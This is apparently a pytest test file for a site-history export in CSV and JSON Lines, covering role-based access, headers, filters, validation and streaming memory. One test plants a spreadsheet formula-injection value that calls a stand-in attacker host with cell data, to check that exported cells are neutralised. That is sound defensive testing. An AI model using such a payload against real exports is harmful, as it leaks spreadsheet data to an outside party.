"""The history as a file: events and rights as in the schema, nothing that a spreadsheet would run, any size."""

import asyncio
import csv
import gc
import io
import json
import tracemalloc
from typing import Any
from uuid import uuid4

import pytest
import sqlalchemy as sa
from httpx2 import Response
from starlette.applications import Starlette

from app import history_export
from app.errors import RequestError
from app.history_export import COLUMNS
from app.query.ids import write_id
from tests.test_cli import Environment, run
from tests.test_history_reads import ALL, eventful, events, insert
from tests.transport import code
from tests.world import VIEW, Person, Place, World

FORMATS = ["csv", "jsonl"]
MANY = 10_000


async def get(person: Person, place: Place, format: str, **filter: Any) -> Response:
    """The bare response."""
    headers = {"Authorization": f"Bearer {person.token}"}
    parameters = {"site": place.id, **filter}
    return await person.world.client.get(f"/history.{format}", params=parameters, headers=headers)


def told(response: Response, format: str) -> list[dict[str, Any]]:
    """The events in a file."""
    assert response.status_code == 200, response.text
    return read(response.content, format)


def read(content: bytes, format: str) -> list[dict[str, Any]]:
    if format == "jsonl":
        return [json.loads(line) for line in content.decode().splitlines()]
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert tuple(rows[0]) == COLUMNS
    return [dict(zip(COLUMNS, row, strict=True)) for row in rows[1:]]


@pytest.mark.parametrize("format", FORMATS)
@pytest.mark.parametrize(
    ("who", "seen"),
    [
        ("primary", ALL),
        ("manage_access=VIEW", ALL),
        ("manage_access=UPDATE", ALL),
        ("contact_updates=UPDATE", []),
        ("user", ["MEMBERSHIP_UPDATED"]),
    ],
)
async def test_members_get_what_they_see(world: World, who: str, seen: list[str], format: str) -> None:
    place, people, _ = await eventful(world)
    file = told(await get(people[who], place, format), format)
    assert [event["event"] for event in file] == seen
    shown = await events(people[who], place)
    assert [event["id"] for event in file] == [event["id"] for event in shown]


@pytest.mark.parametrize("format", FORMATS)
@pytest.mark.parametrize("who", ["requester", "stranger", "ended"])
async def test_for_others_there_is_nothing(world: World, who: str, format: str) -> None:
    place, people, _ = await eventful(world)
    response = await get(people[who], place, format)
    unknown = await get(people[who], place, format, site="site_" + "0" * 32)
    assert (response.status_code, code(response)) == (404, "NOT_FOUND")
    assert response.json() == unknown.json()


@pytest.mark.parametrize("format", FORMATS)
async def test_others_than_bearers_of_a_token_have_to_sign_in(world: World, format: str) -> None:
    place = await world.site()
    for headers in ({}, {"Authorization": "Basic eDp5"}, {"Authorization": "Bearer forged"}):
        response = await world.client.get(f"/history.{format}", params={"site": place.id}, headers=headers)
        assert (response.status_code, code(response)) == (401, "UNAUTHENTICATED")
        assert response.headers["www-authenticate"] == "Bearer"


async def test_json_lines_are_the_events_of_the_schema(world: World) -> None:
    place, people, _ = await eventful(world)
    for who in ("primary", "manage_access=VIEW", "user"):
        shown = await events(people[who], place)
        file = told(await get(people[who], place, "jsonl"), "jsonl")
        for line, event in zip(file, shown, strict=True):
            assert (line.pop("actorId") is None) == (event["actorName"] is None)
            assert line == {name: event[name] for name in line}


async def test_details_of_contacts_are_for_those_who_see_them(world: World) -> None:
    place, people, _ = await eventful(world)
    both, _ = await world.secondary(place, manage_access=VIEW, contact_updates=VIEW)
    for format in FORMATS:
        assert "12 rue de la Paix" not in (await get(people["manage_access=VIEW"], place, format)).text
        assert "12 rue de la Paix" in (await get(both, place, format)).text


async def test_csv_is_for_spreadsheets(world: World) -> None:
    place, people, _ = await eventful(world)
    response = await get(people["primary"], place, "csv")
    assert response.content.startswith(b"\xef\xbb\xbf")
    assert response.headers["content-type"] == "text/csv; charset=utf-8; header=present"
    assert response.headers["content-disposition"] == f'attachment; filename="history-{place.number}.csv"'
    assert response.headers["cache-control"] == "no-store"
    assert response.headers["x-content-type-options"] == "nosniff"
    *_, last = told(response, "csv")
    assert last["changes"] == "privileges.reporting: NONE → VIEW\njustification: – → Été"
    assert (last["number"], last["reason"], last["justification"]) == ("3", "", "Été")
    assert last["actorId"] == people["primary"].id


async def test_json_lines_have_a_name_too(world: World) -> None:
    digits = uuid4().hex[:8].upper()
    place = await world.site(number=f'AB/"É{digits}')
    response = await get(place.primary, place, "jsonl")
    assert (response.status_code, response.content) == (200, b"")
    assert response.headers["content-type"] == "application/jsonl; charset=utf-8"
    assert response.headers["content-disposition"] == f'attachment; filename="history-AB___{digits}.jsonl"'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
async def test_no_cell_is_a_formula(world: World, start: str) -> None:
    place = await world.site()
    evil = start + 'HYPERLINK("http://evil.example/?"&A1);"",\n=1+1'
    texts = {"actor_name": evil, "client": evil, "subject_name": evil, "reason": evil, "justification": evil}
    await insert(world, place, **texts)
    [line] = told(await get(place.primary, place, "csv"), "csv")
    for name in ("actorName", "client", "subjectName", "reason", "justification"):
        assert line[name] == f"'{evil}"
    [event] = told(await get(place.primary, place, "jsonl"), "jsonl")
    assert event["reason"] == evil


async def test_filters_are_those_of_the_schema(world: World) -> None:
    place, people, ids = await eventful(world)
    primary = people["primary"]
    moments = [event["at"] for event in await events(primary, place)]
    for filter, seen in [
        ({"actorIds": primary.id}, ALL[1:]),
        ({"actorIds": [primary.id, people["requester"].id]}, ALL),
        ({"subjectIds": [ids["request"], ids["contact"]]}, ALL[:2]),
        ({"events": ["MEMBERSHIP_UPDATED", "SITE_LEFT"]}, ALL[2:]),
        ({"text": "ete"}, ALL[2:]),
        ({"from": moments[1]}, ALL[1:]),
        ({"until": moments[1]}, ALL[:1]),
        ({"until": moments[1].replace("+00:00", "Z").lower()}, ALL[:1]),
        ({"actorIds": primary.id, "subjectIds": ids["contact"], "text": "Camille"}, ALL[1:2]),
    ]:
        file = told(await get(primary, place, "jsonl", **filter), "jsonl")
        assert [event["event"] for event in file] == seen, filter
    assert told(await get(people["user"], place, "jsonl", actorIds=primary.id), "jsonl") == []


@pytest.mark.parametrize(
    "parameters",
    [
        {"site": ""},
        {"site": "nonsense"},
        {"site": "user_" + "0" * 32},
        {"site": ["site_" + "0" * 32] * 2},
        {"event": "SITE_LEFT"},
        {"events": "NOTHING"},
        {"actorIds": "nonsense"},
        {"subjectIds": ["site_" + "0" * 32] * 101},
        {"from": "yesterday"},
        {"from": ""},
        {"from": "2026-03-01T09:30:00"},
        {"from": "20260301T09Z"},
        {"from": "2026-02-30"},
        {"until": "0001-01-01T00:00:00+23:59"},
        {"text": "a\x00b"},
        {"text": "x" * 101},
    ],
)
async def test_impossible_parameters_are_a_clear_error(world: World, parameters: dict[str, Any]) -> None:
    place = await world.site()
    response = await get(place.primary, place, "csv", **parameters)
    assert (response.status_code, code(response)) == (400, "BAD_USER_INPUT")


async def test_which_of_two_moments_is_none_is_told(world: World) -> None:
    place = await world.site()
    response = await get(place.primary, place, "csv", **{"from": "2026-03-01", "until": "2026-03-01T09:30"})
    assert response.json()["errors"][0]["message"] == (
        "until is a day, such as 2026-03-01, or a moment. A moment is given after RFC 3339, with its offset from UTC,"
        " such as 2026-03-01T09:30:00Z."
    )


async def test_the_site_has_to_be_named(world: World) -> None:
    person = await world.person()
    headers = {"Authorization": f"Bearer {person.token}"}
    response = await world.client.get("/history.csv", headers=headers)
    assert (response.status_code, code(response)) == (400, "BAD_USER_INPUT")


async def test_only_get_and_head_are_answered(world: World) -> None:
    place, people, _ = await eventful(world)
    headers = {"Authorization": f"Bearer {people['primary'].token}"}
    response = await world.client.post("/history.csv", params={"site": place.id}, headers=headers)
    assert (response.status_code, code(response)) == (405, "BAD_USER_INPUT")
    head = await world.client.head("/history.csv", params={"site": place.id}, headers=headers)
    assert (head.status_code, head.content) == (200, b"")
    assert "attachment" in head.headers["content-disposition"]


async def test_parts_make_a_whole(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    place, people, _ = await eventful(world)
    whole = (await get(people["primary"], place, "jsonl")).content
    for size in (1, 2, 3, 4):
        monkeypatch.setattr(history_export, "PART", size)
        assert (await get(people["primary"], place, "jsonl")).content == whole


FILL = sa.text("""
    INSERT INTO history_event (stream, site_id, event, actor_id, actor_name, subject_type, subject_id, subject_name,
        before, after, justification)
    SELECT :site, :site, 'MEMBERSHIP_UPDATED', gen_random_uuid(), 'Actor ' || i, 'membership', gen_random_uuid(),
        'Member ' || i, jsonb_build_object('role', 'USER', 'reporting', 'NONE', 'justification', repeat('x', 300)),
        '{"role": "USER", "reporting": "VIEW"}', repeat('é', 200)
    FROM generate_series(1, :count) AS i""")


async def test_a_large_history_needs_little_memory(
    world: World, app: Starlette, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(history_export, "PART", 250)
    place = await world.site()
    async with world.database.begin() as connection:
        await connection.execute(FILL, {"site": place.site_id, "count": MANY})
    await get(place.primary, place, "csv", text="no such word")
    tracemalloc.start()
    size, lines = await streamed(app, place)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert lines == MANY
    assert size > 10_000_000
    assert peak < size / 3


async def streamed(app: Starlette, place: Place) -> tuple[int, int]:
    """Bytes and lines of an export, of which nothing is kept."""
    size = lines = 0

    async def send(message: Any) -> None:
        nonlocal size, lines
        size += len(message.get("body", b""))
        lines += message.get("body", b"").count(b"\n")

    await download(app, place, place.primary, send)
    return size, lines


async def download(
    app: Starlette, place: Place, person: Person, send: Any, leaves: asyncio.Event | None = None
) -> None:
    """Take a file part by part, at one's own speed, or as much of it as there is until one leaves."""

    async def receive() -> Any:
        await (leaves or asyncio.Event()).wait()
        return {"type": "http.disconnect"}

    scope = {
        "type": "http",
        "method": "GET",
        "path": "/history.jsonl",
        "query_string": f"site={place.id}".encode(),
        "headers": [(b"authorization", f"Bearer {person.token}".encode())],
    }
    await app(scope, receive, send)


async def test_who_leaves_in_the_middle_takes_no_memory(
    world: World, app: Starlette, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Garbage collections are so rare that those who break off their downloads would fill it."""
    place, people, _ = await eventful(world)
    monkeypatch.setattr(history_export, "PART", 2)

    async def leave() -> None:
        left = asyncio.Event()

        async def send(message: Any) -> None:
            if message.get("body"):
                left.set()

        await download(app, place, people["primary"], send, left)

    await leave()
    gc.collect()
    gc.disable()
    try:
        before = rows_in_memory()
        await leave()
        assert rows_in_memory() <= before
    finally:
        gc.enable()


def rows_in_memory() -> int:
    """How many rows of the history there are."""
    return sum(type(kept) is sa.Row for kept in gc.get_objects())


@pytest.mark.parametrize("lost", ["access", "level"])
async def test_who_loses_rights_meanwhile_gets_no_more_and_no_whole_file(
    world: World, app: Starlette, monkeypatch: pytest.MonkeyPatch, lost: str
) -> None:
    place, people, _ = await eventful(world)
    reader, membership_id = await world.secondary(place, manage_access=VIEW)
    monkeypatch.setattr(history_export, "PART", 2)
    sent: list[Any] = []

    async def send(message: Any) -> None:
        sent.append(message)
        if len(sent) != 2:
            return
        if lost == "access":
            await people["primary"].succeed("removeMembership", membershipId=membership_id)
        else:
            levels = {"accountManagement": {"manageAccess": "NONE"}}
            await people["primary"].succeed("updateMembership", membershipId=membership_id, privileges=levels)

    with pytest.raises(RequestError, match="rights"):
        await download(app, place, reader, send)
    assert [message.get("more_body") for message in sent] == [None, True]
    assert len(read(sent[-1]["body"], "jsonl")) == 2


@pytest.mark.parametrize("format", FORMATS)
async def test_operators_export_everything(
    world: World, database_url: str, tmp_path: Any, format: str
) -> None:
    place, people, _ = await eventful(world)
    environment: Environment = {"DATABASE_URL": database_url, "DATA_DIRECTORY": str(tmp_path)}
    command = f"history export --site {place.number} --format {format}"
    written = await asyncio.to_thread(run, command, environment)
    assert written.encode() == (await get(people["primary"], place, format)).content.replace(b"\r\n", b"\n")
    assert "12 rue de la Paix" in written


@pytest.mark.parametrize(
    ("options", "filter"),
    [
        (
            "--event CONTACT_CREATED --event CONTACT_UPDATED",
            {"events": ["CONTACT_CREATED", "CONTACT_UPDATED"]},
        ),
        ("--actor {actor}", {"actorIds": "{actor}"}),
        ("--subject {subject} --text primary", {"subjectIds": "{subject}", "text": "primary"}),
        (
            "--from 2001-01-01T00:00:00 --until 2002-01-01",
            {"from": "2001-01-01T00:00:00Z", "until": "2002-01-01"},
        ),
    ],
)
async def test_operators_filter_like_everybody(
    world: World, database_url: str, tmp_path: Any, options: str, filter: dict[str, Any]
) -> None:
    place, people, _ = await eventful(world)
    primary = people["primary"]
    event = next(row for row in await world.events(place) if row.subject_type == "contact")
    ids = {"actor": primary.id, "subject": write_id("contact", event.subject_id)}
    environment: Environment = {"DATABASE_URL": database_url, "DATA_DIRECTORY": str(tmp_path)}
    command = f"history export --site {place.number} --format jsonl {options.format(**ids)}"
    written = await asyncio.to_thread(run, command, environment)
    wanted = {
        name: value.format(**ids) if isinstance(value, str) else value for name, value in filter.items()
    }
    everything = (await get(primary, place, "jsonl")).content
    assert written.encode() == (await get(primary, place, "jsonl", **wanted)).content
    assert len(written) < len(everything)


async def test_a_filter_that_cannot_be_is_told_to_operators(
    world: World, database_url: str, tmp_path: Any
) -> None:
    place = await world.site()
    environment: Environment = {"DATABASE_URL": database_url, "DATA_DIRECTORY": str(tmp_path)}
    command = f"history export --site {place.number} --subject nonsense"
    told = await asyncio.to_thread(run, command, environment, 1)
    assert "This is not the id of anything." in told and "Traceback" not in told
